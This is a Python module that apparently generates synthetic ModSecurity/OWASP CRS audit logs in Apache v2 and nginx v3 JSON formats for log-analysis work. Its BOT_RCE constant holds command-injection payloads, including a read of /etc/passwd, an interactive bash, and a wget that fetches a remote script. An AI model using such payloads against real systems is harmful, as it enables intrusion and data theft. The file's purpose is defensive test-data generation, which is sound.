"""ModSecurity JSON audit logs (SecAuditLogFormat JSON, SecAuditEngine RelevantOnly) with the OWASP CRS.

Two deployments, one file each per day:
- `v2`: b2b-store's Apache with mod_security 2.9: top-level `transaction` / `request` / `response` /
  `audit_data` (messages as error-log strings, `action.intercepted` when it denied);
- `v3`: eu-store's nginx origin with libmodsecurity 3: `{"transaction": {..., "request", "response",
  "producer", "messages": [{"message", "details": {...}}]}}`.
Shapes follow the real records in elastic/integrations' modsecurity test logs. Only "relevant" transactions are
logged: rule matches (blocked or not).
"""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass
from typing import Any, ClassVar

import numpy as np
import polars as pl

from breachline.generate.formats.base import DayContext, FormatWriter, Rendered, Schema, by_time, split
from breachline.generate.formats.http_pools import (
    BOT_LFI,
    BOT_PATHS,
    BOT_SQLI,
    BOT_UAS,
    BOT_XSS,
    BROWSER_UA_WEIGHTS,
    BROWSER_UAS,
    qs,
)
from breachline.generate.model import B2B_HOST, EU_HOST
from breachline.generate.vec import day_times, digits, frame, jstr, pick, random_strings, template

CRS_V2, CRS_V3 = "OWASP_CRS/3.3.5", "OWASP_CRS/4.3.0"
RULES_DIR = {"v2": "/usr/share/modsecurity-crs/rules", "v3": "/etc/nginx/modsec/coreruleset/rules"}
SEVERITY_NUM = {"CRITICAL": "2", "ERROR": "3", "WARNING": "4", "NOTICE": "5"}
BOT_RCE = (";cat /etc/passwd", "|/bin/bash -i", "$(wget http://45.155.205.233/x.sh)")


@dataclass(frozen=True)
class CrsRule:
    rule_id: str
    file: str
    line: str
    msg: str
    severity: str
    tags: tuple[str, ...]
    operator: str  # v2 text before the [file ...] part; «value» / «param» placeholders allowed
    match: str  # v3 details.match
    data: str  # «value» / «param» placeholders allowed


def _tags(attack: str, capec: str, pl_: int = 1) -> tuple[str, ...]:
    return ("application-multi", "language-multi", "platform-multi", f"attack-{attack}", f"paranoia-level/{pl_}",
            "OWASP_CRS", capec, "PCI/6.5.2")


SQLI = CrsRule("942100", "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "46", "SQL Injection Attack Detected via libinjection",
               "CRITICAL", _tags("sqli", "capec/1000/152/248/66"), "detected SQLi using libinjection with fingerprint 's&1c'",
               "detected SQLi using libinjection.", "Matched Data: s&1c found within ARGS:«param»: «value»")
XSS = CrsRule("941100", "REQUEST-941-APPLICATION-ATTACK-XSS.conf", "55", "XSS Attack Detected via libinjection",
              "CRITICAL", _tags("xss", "capec/1000/152/242"), "detected XSS using libinjection.",
              "detected XSS using libinjection.", "Matched Data: XSS data found within ARGS:«param»: «value»")
LFI = CrsRule("930120", "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "98", "OS File Access Attempt", "CRITICAL",
              _tags("lfi", "capec/1000/255/153/126"), 'Matched phrase "etc/passwd" at ARGS:«param».',
              "Matched \"Operator `PmFromFile' with parameter `lfi-os-files.data' against variable `ARGS:«param»'",
              "Matched Data: etc/passwd found within ARGS:«param»: «value»")
RCE = CrsRule("932160", "REQUEST-932-APPLICATION-ATTACK-RCE.conf", "485", "Remote Command Execution: Unix Shell Code Found",
              "CRITICAL", _tags("rce", "capec/1000/152/248/88"), 'Matched phrase "bin/bash" at ARGS:«param».',
              "Matched \"Operator `PmFromFile' with parameter `unix-shell.data' against variable `ARGS:«param»'",
              "Matched Data: bin/bash found within ARGS:«param»: «value»")
SCANNER = CrsRule("913100", "REQUEST-913-SCANNER-DETECTION.conf", "33", "Found User-Agent associated with security scanner",
                  "CRITICAL", _tags("reputation-scanner", "capec/1000/118/224/541/310"),
                  'Matched phrase "sqlmap" at REQUEST_HEADERS:User-Agent.',
                  "Matched \"Operator `PmFromFile' with parameter `scanners-user-agents.data' against variable `REQUEST_HEADERS:User-Agent'",
                  "Matched Data: sqlmap found within REQUEST_HEADERS:User-Agent: «value»")
HOST_IP = CrsRule("920350", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "733", "Host header is a numeric IP address",
                  "WARNING", _tags("protocol", "capec/1000/210/272"), "Pattern match \"^[\\d.:]+$\" at REQUEST_HEADERS:Host.",
                  "Matched \"Operator `Rx' with parameter `^[\\d.:]+$' against variable `REQUEST_HEADERS:Host'",
                  "«value»")
SQL_CHARS = CrsRule("942430", "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "1004",
                    "Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)",
                    "WARNING", _tags("sqli", "capec/1000/152/248/66", 2),
                    "Pattern match \"((?:[~!@#\\$%\\^&\\*\\(\\)\\-\\+=\\{\\}\\[\\]\\|:;\\\"'\\xc2\\xb4\\xe2\\x80\\x99\\xe2\\x80\\x98`<>][^~!@#\\$%\\^&\\*\\(\\)\\-\\+=\\{\\}\\[\\]\\|:;\\\"'\\xc2\\xb4\\xe2\\x80\\x99\\xe2\\x80\\x98`<>]*?){12})\" at ARGS:«param».",
                    "Matched \"Operator `Rx' with parameter `((?:[~!@#\\$%\\^&\\*\\(\\)\\-\\+=\\{\\}\\[\\]\\|:;\"'`<>][^~!@#\\$%\\^&\\*\\(\\)\\-\\+=\\{\\}\\[\\]\\|:;\"'`<>]*?){12})' against variable `ARGS:«param»'",
                    "Matched Data: «value» found within ARGS:«param»: «value»")
BLOCKING = CrsRule("949110", "REQUEST-949-BLOCKING-EVALUATION.conf", "81", "Inbound Anomaly Score Exceeded (Total Score: 5)",
                   "CRITICAL", ("application-multi", "language-multi", "platform-multi", "attack-generic"),
                   "Operator GE matched 5 at TX:anomaly_score.",
                   "Matched \"Operator `Ge' with parameter `%{tx.inbound_anomaly_score_threshold}' against variable `TX:ANOMALY_SCORE'",
                   "")


@dataclass(frozen=True)
class Kind:
    rules: tuple[CrsRule, ...]
    blocked: bool
    clients: str  # bots | search_fp
    param: str
    payloads: tuple[str, ...]
    weight: float


KINDS: dict[str, Kind] = {
    "sqli": Kind((SQLI, BLOCKING), True, "bots", "id", BOT_SQLI, 0.30),
    "xss": Kind((XSS, BLOCKING), True, "bots", "q", BOT_XSS, 0.14),
    "lfi": Kind((LFI, BLOCKING), True, "bots", "file", BOT_LFI, 0.12),
    "rce": Kind((RCE, BLOCKING), True, "bots", "cmd", BOT_RCE, 0.08),
    "scanner": Kind((SCANNER, BLOCKING), True, "bots", "", ("sqlmap/1.8.4#stable (https://sqlmap.org)",), 0.10),
    "host_ip": Kind((HOST_IP,), False, "bots", "", ("",), 0.16),
    # benign look-alike: address-book imports with many special characters, SQLi family, not blocked
    "sql_chars": Kind((SQL_CHARS,), False, "search_fp", "street", ("Flat 3/B, 12-14 St. John's Rd. (rear) #2; c/o Smith & Co.",), 0.10),
}

SCHEMA: Schema = {
    "ts": pl.Int64,
    "ip": pl.String,
    "port": pl.Int64,
    "method": pl.String,
    "path": pl.String,
    "query": pl.String,  # "" = none
    "ua": pl.String,
    "kind": pl.String,  # key of KINDS
    "value": pl.String,  # the offending value (payload / user agent / host)
    "status": pl.Int64,
    "tx_id": pl.String,
}


def _sub(text: str, param: str, value: pl.Expr) -> pl.Expr:
    """A rule text with «param» filled in (a constant) and «value» replaced by an expression."""
    return template(text.replace("«param»", param), {"value": value})


def _v2_message(rule: CrsRule, param: str, value: pl.Expr, ver: str) -> pl.Expr:
    prefix = "Access denied with code 403 (phase 2). " if rule is BLOCKING else "Warning. "
    head = prefix + rule.operator.replace("«param»", param)
    tail = f' [file "{RULES_DIR["v2"]}/{rule.file}"] [line "{rule.line}"] [id "{rule.rule_id}"] [msg "{rule.msg}"]'
    data = ""
    if rule.data:
        data = ' [data "' + rule.data.replace("«param»", param) + '"]'
    tags = "".join(f' [tag "{t}"]' for t in rule.tags)
    sev = f' [severity "{rule.severity}"]'
    # inside the error-log text, quotes in matched data are backslash-escaped
    esc = value.str.replace_all('"', '\\"', literal=True)
    return template(head + tail + data + sev + f' [ver "{ver}"]' + tags, {"value": esc})


def _render_v2(df: pl.DataFrame, kind: Kind, host: str) -> pl.Expr:
    value = pl.col("value")
    msgs = [_v2_message(r, kind.param, value, CRS_V2) for r in kind.rules]
    suffix = pl.concat_str([pl.lit(f' [hostname "{host}"] [uri "'), pl.col("path"), pl.lit('"] [unique_id "'),
                            pl.col("tx_id"), pl.lit('"]')])
    errs = [pl.concat_str([pl.lit('[file "apache2_util.c"] [line 273] [level 3] [client '), pl.col("ip"),
                           pl.lit("] ModSecurity: "), m, suffix]) for m in msgs]
    uri = pl.concat_str([pl.col("path"), pl.when(pl.col("query") == "").then(pl.lit("")).otherwise(
        pl.concat_str([pl.lit("?"), pl.col("query")]))])
    action = (',"action":{"intercepted":true,"phase":2,"message":"Operator GE matched 5 at TX:anomaly_score."}'
              if kind.blocked else "")
    response = ('{"protocol":"HTTP/1.1","status":403,"headers":{"Content-Length":"199","Content-Type":"text/html; '
                'charset=iso-8859-1"},"body":"<!DOCTYPE HTML PUBLIC \\"-//IETF//DTD HTML 2.0//EN\\">\\n<html><head>\\n'
                '<title>403 Forbidden</title>\\n</head><body>\\n<h1>Forbidden</h1>\\n<p>You don\'t have permission to '
                'access this resource.</p>\\n</body></html>\\n"}') if kind.blocked else (
                '{"protocol":"HTTP/1.1","status":«status»,"headers":{"Content-Type":"text/html; charset=UTF-8",'
                '"Cache-Control":"max-age=0, must-revalidate, no-cache, no-store"}}')
    tpl = (
        '{"transaction":{"time":«time»,"transaction_id":«tx»,"remote_address":«ip»,"remote_port":«port»,'
        '"local_address":"10.20.1.15","local_port":443},'
        '"request":{"request_line":«request_line»,"headers":{"Host":"' + host + '","User-Agent":«ua»,"Accept":"*/*",'
        '"Accept-Encoding":"gzip, deflate"}},'
        '"response":' + response + ','
        '"audit_data":{"messages":[«messages»],"error_messages":[«errors»]' + action + ','
        '"stopwatch":{"p1":«p1»,"p2":«p2»,"p3":0,"p4":0,"p5":«p5»,"sr":«sr»,"sw":0,"l":0,"gc":0},'
        '"response_body_dechunked":true,"producer":["ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/)",'
        '"' + CRS_V2 + '"],"server":"Apache","engine_mode":"ENABLED"}}'
    )
    parts = {
        "time": jstr(pl.from_epoch("ts", time_unit="us").dt.strftime("%d/%b/%Y:%H:%M:%S +0000")),
        "tx": jstr("tx_id"), "ip": jstr("ip"), "port": pl.col("port").cast(pl.String),
        "request_line": jstr(pl.concat_str([pl.col("method"), pl.lit(" "), uri, pl.lit(" HTTP/1.1")])),
        "ua": jstr("ua"), "status": pl.col("status").cast(pl.String),
        "messages": pl.concat_str([jstr(m) for m in msgs], separator=","),
        "errors": pl.concat_str([jstr(e) for e in errs], separator=","),
        "p1": (pl.col("port") % 900 + 300).cast(pl.String), "p2": (pl.col("port") % 2500 + 400).cast(pl.String),
        "p5": (pl.col("port") % 700 + 90).cast(pl.String), "sr": (pl.col("port") % 150 + 20).cast(pl.String),
    }
    return template(tpl, parts)


def _v3_message(rule: CrsRule, param: str, value: pl.Expr) -> pl.Expr:
    tags = ",".join(f'"{t}"' for t in rule.tags)
    tpl = (
        '{"message":' + json.dumps(rule.msg) + ',"details":{"match":«match»,"reference":"o0,10v24,10","ruleId":"'
        + rule.rule_id + '","file":"' + RULES_DIR["v3"] + "/" + rule.file + '","lineNumber":"' + rule.line
        + '","data":«data»,"severity":"' + SEVERITY_NUM[rule.severity] + '","ver":"' + CRS_V3
        + '","rev":"","tags":[' + tags + '],"maturity":"0","accuracy":"0"}}'
    )
    return template(tpl, {"match": jstr(_sub(rule.match, param, value)), "data": jstr(_sub(rule.data, param, value))})


def _render_v3(df: pl.DataFrame, kind: Kind, host: str) -> pl.Expr:
    value = pl.col("value")
    msgs = [_v3_message(r, kind.param, value) for r in kind.rules]
    uri = pl.concat_str([pl.col("path"), pl.when(pl.col("query") == "").then(pl.lit("")).otherwise(
        pl.concat_str([pl.lit("?"), pl.col("query")]))])
    body = ('"<html>\\r\\n<head><title>403 Forbidden</title></head>\\r\\n<body>\\r\\n<center><h1>403 Forbidden</h1>'
            '</center>\\r\\n<hr><center>nginx</center>\\r\\n</body>\\r\\n</html>\\r\\n"') if kind.blocked else '""'
    tpl = (
        '{"transaction":{"client_ip":«ip»,"time_stamp":«time»,"server_id":"9d8c0a6e1f2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d",'
        '"client_port":«port»,"host_ip":"10.30.0.12","host_port":443,"unique_id":«tx»,'
        '"request":{"method":«method»,"http_version":1.1,"uri":«uri»,"headers":{"Host":"' + host + '",'
        '"User-Agent":«ua»,"Accept":"*/*","Connection":"keep-alive"}},'
        '"response":{"body":' + body + ',"http_code":«status»,"headers":{"Server":"nginx","Date":«date»,'
        '"Content-Type":"text/html","Connection":"keep-alive"}},'
        '"producer":{"modsecurity":"ModSecurity v3.0.12 (Linux)","connector":"ModSecurity-nginx v1.0.3",'
        '"secrules_engine":"Enabled","components":["' + CRS_V3 + '\\""]},'
        '"messages":[«messages»]}}'
    )
    parts = {
        "ip": jstr("ip"), "time": jstr(pl.from_epoch("ts", time_unit="us").dt.strftime("%a %b %e %H:%M:%S %Y")),
        "port": pl.col("port").cast(pl.String), "tx": jstr("tx_id"), "method": jstr("method"), "uri": jstr(uri),
        "ua": jstr("ua"), "status": pl.col("status").cast(pl.String),
        "date": jstr(pl.from_epoch("ts", time_unit="us").dt.strftime("%a, %d %b %Y %H:%M:%S GMT")),
        "messages": pl.concat_str(msgs, separator=","),
    }
    return template(tpl, parts)


def scenario_row(ts: int, **fields: Any) -> dict[str, Any]:
    row: dict[str, Any] = {k: None for k in SCHEMA}
    row.update(ts=ts, query="", status=403)
    row.update(fields)
    return row


class ModSecurityWriter(FormatWriter):
    name: ClassVar[str] = "modsecurity"
    share: ClassVar[float] = 0.04
    schemas: ClassVar[dict[str, Schema]] = {"v2": SCHEMA, "v3": SCHEMA}

    def path(self, stream: str, date: dt.date) -> str:
        server = "apache" if stream == "v2" else "nginx"
        return f"modsec_audit-{stream}-{server}-{date.isoformat()}.json"

    def render(self, stream: str, df: pl.DataFrame) -> Rendered:
        host = B2B_HOST if stream == "v2" else EU_HOST
        pieces = []
        for name, kind in KINDS.items():
            part = df.filter(pl.col("kind") == name)
            if part.height:
                expr = _render_v2(part, kind, host) if stream == "v2" else _render_v3(part, kind, host)
                pieces.append(part.select("ts", expr.alias("line")))
        if not pieces:
            return pl.Series(values=[], dtype=pl.String)
        out = pl.concat(pieces)
        return by_time(out, out["line"])

    def noise(self, ctx: DayContext) -> dict[str, pl.DataFrame]:
        return {s: self._stream(ctx, s, n) for s, n in split(ctx.n, {"v2": 0.4, "v3": 0.6}).items()}

    def _stream(self, ctx: DayContext, stream: str, n: int) -> pl.DataFrame:
        rng, store = ctx.rng, ctx.store
        names = list(KINDS)
        w = np.array([KINDS[k].weight for k in names])
        ki = rng.choice(len(names), size=n, p=w / w.sum())
        frames = []
        for j, name in enumerate(names):
            m = int((ki == j).sum())
            if not m:
                continue
            kind = KINDS[name]
            pool = store.bots if kind.clients == "bots" else store.search_fp
            who = rng.integers(0, len(pool), m)
            ip = pool.ips.gather(who)
            pi = rng.integers(0, len(kind.payloads), m)
            value = pl.Series(values=kind.payloads, dtype=pl.String).gather(pi)
            query = pl.Series(values=[qs(kind.param, p) if kind.param else "" for p in kind.payloads]).gather(pi)
            ua, path = pick(rng, BOT_UAS, m), pick(rng, BOT_PATHS, m)
            if name == "scanner":  # the payload is the user agent; sqlmap probes with SQLi in the query
                ua, query = value, pick(rng, tuple(qs("id", p) for p in BOT_SQLI), m)
            elif name == "host_ip":  # scanners address the server by IP: the rule reports the Host they sent
                value = ip
            elif name == "sql_chars":
                ua = pick(rng, BROWSER_UAS, m, BROWSER_UA_WEIGHTS)
                path = pick(rng, ("/customer/address/formPost/", "/checkout/"), m)
            status = np.full(m, 403) if kind.blocked else rng.choice([200, 404], size=m, p=[0.7, 0.3])
            frames.append(frame(SCHEMA, m, {
                "ts": np.zeros(m, dtype=np.int64), "ip": ip, "port": rng.integers(1024, 65535, m),
                "method": "POST" if name == "sql_chars" else pick(rng, ("GET", "POST"), m, (0.8, 0.2)),
                "path": path, "query": query, "ua": ua, "kind": name, "value": value, "status": status,
                "tx_id": random_strings(rng, m, 27, "b64") if stream == "v2" else "",
            }))
        df = pl.concat(frames)
        ts = day_times(rng, ctx.start_us, df.height)[rng.permutation(df.height)]
        df = df.with_columns(ts=pl.Series(values=ts))
        if stream == "v3":  # libmodsecurity's unique_id: epoch seconds and two digits, a dot, six digits
            df = df.with_columns(tx_id=pl.concat_str([(pl.col("ts") // 1_000_000).cast(pl.String),
                                                      pl.lit(digits(rng, df.height, 2)), pl.lit("."),
                                                      pl.lit(digits(rng, df.height, 6))]))
        return df
